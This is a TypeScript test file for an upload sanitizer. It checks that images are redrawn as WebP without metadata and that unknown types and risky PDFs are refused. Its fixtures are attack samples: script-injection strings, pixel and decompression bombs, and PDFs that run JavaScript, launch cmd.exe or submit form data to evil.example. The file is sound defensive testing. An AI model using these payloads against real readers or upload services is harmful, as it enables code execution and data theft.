import { deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { expect, test } from 'vitest'
import { Refusal } from '../http/refusal.ts'
import { readUpload } from './uploads.ts'

const picture = (side = 200) =>
  sharp({ create: { width: side, height: side / 2, channels: 3, background: '#336699' } }).withExif({
    IFD0: { Copyright: 'hidden words' },
    IFD3: { GPSLatitude: '22/1 17/1 0/1' },
  })

/** The smallest PDF that a reader opens, with what a test puts into it. */
const pdf = (inside = '', after = '') =>
  Buffer.from(
    `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R${inside}>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n${after}`,
    'latin1',
  )
const compressed = (objects: string) => {
  const list = deflateSync(Buffer.from(objects, 'latin1'))
  return Buffer.concat([
    Buffer.from(`%PDF-1.7\n3 0 obj<</Type/ObjStm/N 1/First 5/Filter/FlateDecode/Length ${list.length}>>stream\r\n`),
    list,
    Buffer.from('\r\nendstream endobj\n%%EOF'),
  ])
}

async function whyNot(bytes: Buffer): Promise<string> {
  try {
    const { kind } = await readUpload(bytes)
    return kind
  } catch (error) {
    if (!(error instanceof Refusal)) throw error
    return error.code
  }
}

test('a picture is drawn anew as WebP: nothing of the old file is left but what is seen', async () => {
  for (const sent of [
    await picture().jpeg().toBuffer(),
    await picture().png().toBuffer(),
    await picture().webp().toBuffer(),
  ]) {
    expect(sent.includes('hidden words')).toBe(true)
    const { kind, bytes } = await readUpload(Buffer.concat([sent, Buffer.from('<script>alert(1)</script>PK\x03\x04')]))
    expect(kind).toBe('image/webp')
    const seen = await sharp(bytes).metadata()
    expect([seen.format, seen.width, seen.height, seen.exif]).toEqual(['webp', 200, 100, undefined])
    expect(bytes.includes('hidden words') || bytes.includes('script') || bytes.includes('PK\x03\x04')).toBe(false)
  }
})

test('a large picture becomes one that a person can read and a shop can keep', async () => {
  const { bytes } = await readUpload(await picture(5_000).jpeg().toBuffer())
  expect((await sharp(bytes).metadata()).width).toBe(2_400)
})

test('a bomb of pixels, a broken picture and one that is cut off are refused', async () => {
  const bomb = await sharp({ create: { width: 9_000, height: 9_000, channels: 3, background: '#000' } })
    .png()
    .toBuffer()
  expect(bomb.length).toBeLessThan(1_000_000)
  expect(await whyNot(bomb)).toBe('FILE_UNREADABLE')
  const whole = await picture().jpeg().toBuffer()
  expect(await whyNot(whole.subarray(0, whole.length / 2))).toBe('FILE_UNREADABLE')
  expect(await whyNot(Buffer.from('\x89PNG\r\n\x1a\n and nothing more', 'latin1'))).toBe('FILE_UNREADABLE')
})

test.each([
  ['an SVG', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
  ['an SVG behind a declaration', '<?xml version="1.0"?><svg/>'],
  ['a web page', '<!doctype html><script>alert(1)</script>'],
  ['a GIF', 'GIF89a/*'],
  ['a program', '\x7fELF'],
  ['an archive', 'PK\x03\x04'],
  ['a PDF behind something else', '<html>\n%PDF-1.7\n%%EOF'],
  ['text', 'I have paid'],
  ['nothing', ''],
])('%s is no proof, whatever it calls itself', async (_, content) => {
  expect(await whyNot(Buffer.from(content, 'latin1'))).toBe('FILE_KIND_UNKNOWN')
})

test('a plain PDF is kept as it came', async () => {
  const { kind, bytes } = await readUpload(pdf())
  expect([kind, bytes.equals(pdf())]).toEqual(['application/pdf', true])
  expect(await whyNot(compressed('1 0 <</Type/Page>>'))).toBe('application/pdf')
})

test.each([
  ['runs a script', pdf('/OpenAction<</S/JavaScript/JS(app.alert(1))>>')],
  ['runs a script under an alias', pdf('/OpenAction<</S/#4aavaScript>>')],
  ['starts a program', pdf('/OpenAction<</S/Launch/F(cmd.exe)>>')],
  ['carries a file', pdf('/Names<</EmbeddedFiles 3 0 R>>')],
  ['sends what is typed', pdf('/A<</S/SubmitForm/F(https://evil.example)>>')],
  ['is locked', pdf('/Encrypt 5 0 R')],
  ['hides a script in a compressed list', compressed('1 0 <</S/JavaScript/JS(app.alert(1))>>')],
  ['hides what cannot be decompressed', Buffer.from('%PDF-1.7\n3 0 obj<</Type/ObjStm>>stream\nxxxx\nendstream\n%%EOF')],
  ['decompresses without end', compressed('0'.repeat(6_000_000))],
  ['is an archive too', pdf('', `PK\x03\x04${'x'.repeat(100)}PK\x05\x06`)],
  ['is cut off', pdf().subarray(0, 60)],
])('a PDF that %s is refused', async (_, bytes) => {
  expect(await whyNot(bytes)).toBe('FILE_PDF_UNSAFE')
})
